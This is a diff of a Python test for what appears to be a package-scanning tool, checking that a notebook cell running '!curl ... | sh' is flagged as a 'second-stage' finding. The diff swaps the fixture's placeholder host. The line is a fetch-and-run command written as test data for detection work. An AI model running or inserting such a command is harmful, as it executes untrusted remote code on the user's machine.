@@ -58,7 +58,7 @@ def test_older_notebooks_keep_cells_in_sheets() -> None:
 
 def test_a_command_in_a_notebook_is_seen() -> None:
     """What a cell fetches and runs is a finding, but nobody runs it by installing."""
-    files = {"demo.ipynb": _notebook("!curl http://192.0.2.1/a | sh").decode()}
+    files = {"demo.ipynb": _notebook("!curl https://stage.example.invalid/a | sh").decode()}
     findings = screen_bytes(make_sdist("example-pkg", "1.0", files).data, filename="example_pkg-1.0.tar.gz").findings
     assert {(f.rule, f.proven) for f in findings if f.path == "demo.ipynb"} == {("second-stage", False)}
 
